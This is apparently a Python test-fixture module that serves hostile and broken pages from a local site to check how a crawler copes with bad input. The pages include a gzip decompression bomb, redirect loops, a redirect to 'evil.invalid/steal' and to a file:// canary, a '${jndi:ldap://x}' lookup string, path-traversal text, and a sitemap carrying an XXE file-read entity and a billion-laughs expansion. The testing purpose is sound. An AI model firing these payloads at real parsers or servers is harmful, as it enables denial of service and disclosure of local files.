"""Hostile and broken pages mixed into the local site, for the hostile-input tests.

``install(site, canary)`` adds them to a running ``LocalSite`` and lists them in a sitemap of
their own, next to the normal ones: huge pages, a compression bomb, redirect loops and
redirects off-site or to ``file://``, pages deep, empty, binary or full of NUL bytes, a page
whose charset declaration lies, absurd values, hostile text, and a sitemap with external
entities, entity expansion, off-site and non-http locations and dead links.
"""
from __future__ import annotations

import random
import zlib
from pathlib import Path
from typing import Any

# A planted page is one of the site's: it shows the breadcrumbs every article shows (all are under
# /en/ai/), or the run's cross-checks rightly call its category missing and fail the run.
PAGE = """<!DOCTYPE html><html lang="{lang}"><head><meta charset="{charset}"><title>{title}</title>
<meta name="description" content="{summary}"><meta property="og:type" content="article">
<link rel="canonical" href="{base}{path}"></head><body>
<nav aria-label="Breadcrumb"><a href="{base}/{lang}/">Home</a> › <a href="{base}/{lang}/category/ai">AI</a></nav>
<h1>{title}</h1><p>{summary}</p>
<p>By Ann Example · July 4, 2023</p><div><p>{body}</p><p>Second paragraph of the article.</p></div>
<p>Was this article helpful?</p><p>{votes} found this helpful</p></body></html>"""


# C1 controls (a CSI, NEL, ST), bidi overrides, isolates and marks: text that looks other than it is.
BIDI = "\x9b31m\u202eevil\u202c\u202a\u202b\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c\x85\x9c "


def _article(base: str, path: str, title: str, body: str = "A normal paragraph.", votes: str = "3 out of 4",
             lang: str = "en", charset: str = "utf-8", summary: str = "A summary.") -> str:
    return PAGE.format(base=base, path=path, title=title, body=body, votes=votes, lang=lang, charset=charset,
                       summary=summary)


def _html(body: bytes, charset: str = "utf-8", **headers: str) -> tuple[int, bytes, dict[str, str]]:
    return 200, body, {"Content-Type": f"text/html; charset={charset}", **headers}


def _redirect(location: str) -> tuple[int, bytes, dict[str, str]]:
    return 302, b"", {"Location": location}


def _gzip_bomb(mebibytes: int) -> bytes:
    """A few hundred KiB that inflate to ``mebibytes`` MiB of spaces, built without holding them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip framing
    chunk = b" " * (1 << 20)
    return packer.compress(b"<html><body>") + b"".join(packer.compress(chunk) for _ in range(mebibytes)) + packer.flush()


def pages(base: str, alt_base: str, canary: Path) -> dict[str, tuple[int, bytes, dict[str, str]]]:
    """path -> (status, body, headers) of every hostile page."""
    rng = random.Random(90)
    p = "/en/ai/"
    return {
        f"{p}90001-huge": _html(b"<html><body><h1>Huge</h1>" + b"<p>" + b"x" * (30 * 1024 * 1024) + b"</p></body></html>"),
        f"{p}90002-bomb": _html(_gzip_bomb(400), **{"Content-Encoding": "gzip"}),
        f"{p}90003-loop": _redirect(f"{p}90003-loop?n={rng.random()}"),
        f"{p}90004-offsite": _redirect("http://evil.invalid/steal"),
        f"{p}90005-mirror": _redirect(f"{alt_base}{p}90005-mirror-target"),
        f"{p}90006-file": _redirect(canary.as_uri()),
        f"{p}90007-deep": _html(b"<html><body><h1>Deep</h1>" + b"<div>" * 200_000 + b"<p>x</p>" + b"</div>" * 200_000),
        f"{p}90008-garbage": _html(bytes(rng.getrandbits(8) for _ in range(200_000))),
        f"{p}90009-empty": _html(b""),
        f"{p}90010-nul": _html(_article(base, f"{p}90010-nul", "NUL\x00 title", "NUL\x00\x00 body").encode()),
        f"{p}90011-charset-lie": _html(_article(base, f"{p}90011-charset-lie", "Café crème: déjà vu",
                                                charset="windows-1252").encode("utf-8"), charset="windows-1252"),
        f"{p}90012-absurd": _html(_article(base, f"{p}90012-absurd", "A" * 1_000_000,
                                           votes="9" * 5000 + " out of " + "9" * 5001).encode()),
        f"{p}90013-dates": _html(_article(base, f"{p}90013-dates", "Year ninety thousand",
                                          body="Published 4 July 90000.").replace(
            "July 4, 2023", "July 4, 90000").encode()),
        f"{p}90014-hostile-text": _html(_article(
            base, f"{p}90014-hostile-text", "Evil \x1b[31mred\x1b[0m \r\nFAKE LOG LINE ../../../etc/passwd",
            body="\x07\x08 ../../ %s %n {0} ${jndi:ldap://x}").encode()),
        f"{p}90016-bidi": _html(_article(
            base, f"{p}90016-bidi", BIDI + "Bidi\u202e title\x9b31m", body=BIDI + "Body \u2066text\u2069 here\x85.",
            summary="Sum\u200fmary\x9c" + BIDI).replace("Ann Example", "Ann\u202d Ex\x90ample").encode()),
        f"{p}90015-truncated": _html(_article(base, f"{p}90015-truncated", "Cut short").encode()[:400]),
    }


def sitemap(base: str, paths: list[str], canary: Path) -> bytes:
    entries = "".join(f"<url><loc>{base}{path}</loc><lastmod>2099-01-01</lastmod></url>" for path in paths)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "{canary.as_uri()}">
<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}
<url><loc>{base}/en/ai/90100-&xxe;</loc></url>
<url><loc>http://evil.invalid/en/ai/90102-offsite</loc></url><url><loc>{canary.as_uri()}</loc></url>
<url><loc>ftp://{base.split('//')[1]}/en/ai/90103-ftp</loc></url><url><loc>{base}/en/ai/90104-dead</loc></url>
<url><loc>{base}/en/ai/90101-&g;</loc></url>
</urlset>""".encode()


def install(site: Any, canary: Path) -> list[str]:
    """Serve the hostile pages from ``site`` (a running LocalSite); returns their paths."""
    hostile = pages(site.base_url, site.alt_base_url, canary)
    index = site.app.route("/sitemap.xml", {}).body.decode()
    extra = f"<sitemap><loc>{site.base_url}/sitemaps/hostile.xml</loc></sitemap></sitemapindex>"
    routes = dict(hostile)
    routes["/sitemap.xml"] = (200, index.replace("</sitemapindex>", extra).encode(), {"Content-Type": "application/xml"})
    routes["/sitemaps/hostile.xml"] = (200, sitemap(site.base_url, list(hostile), canary), {"Content-Type": "application/xml"})
    site.extra_routes.update(routes)
    return list(hostile)


# -- dead links: a few (a retired category the navigation keeps), or a flood --------------------

def _with_links(site: Any, path: str, hrefs: list[str]) -> tuple[int, bytes, dict[str, str]]:
    page = site.app.route(path, {}).body.decode("utf-8")
    links = "".join(f'<a href="{href}">{href.rsplit("/", 2)[-2]}</a>' for href in hrefs)
    return _html(page.replace("</body>", f"<nav>{links}</nav></body>", 1).encode("utf-8"))


def retire_a_category(site: Any, languages: list[str]) -> list[str]:
    """Every language's home page keeps a link to a category that is gone (404); its paths."""
    dead = [f"/{lang}/category/retired-topic/" for lang in languages]
    site.extra_routes.update({f"/{lang}/": _with_links(site, f"/{lang}/", [path]) for lang, path in zip(languages, dead)})
    return dead


def dead_link_flood(site: Any, where: str, n: int) -> list[str]:
    """``n`` article URLs that answer 404, listed in a sitemap of their own (``where="sitemap"``)
    or linked from the English home page (``"listing"``); their paths."""
    dead = [f"/en/ai/{800000 + i}-gone-story" for i in range(n)]
    if where == "listing":
        site.extra_routes["/en/"] = _with_links(site, "/en/", dead)
        return dead
    index = site.app.route("/sitemap.xml", {}).body.decode()
    extra = f"<sitemap><loc>{site.base_url}/sitemaps/dead.xml</loc></sitemap></sitemapindex>"
    entries = "".join(f"<url><loc>{site.base_url}{path}</loc></url>" for path in dead)
    site.extra_routes["/sitemap.xml"] = (200, index.replace("</sitemapindex>", extra).encode(), {"Content-Type": "application/xml"})
    site.extra_routes["/sitemaps/dead.xml"] = (200, f'<?xml version="1.0" encoding="UTF-8"?><urlset '
                                               f'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>'.encode(),
                                               {"Content-Type": "application/xml"})
    return dead
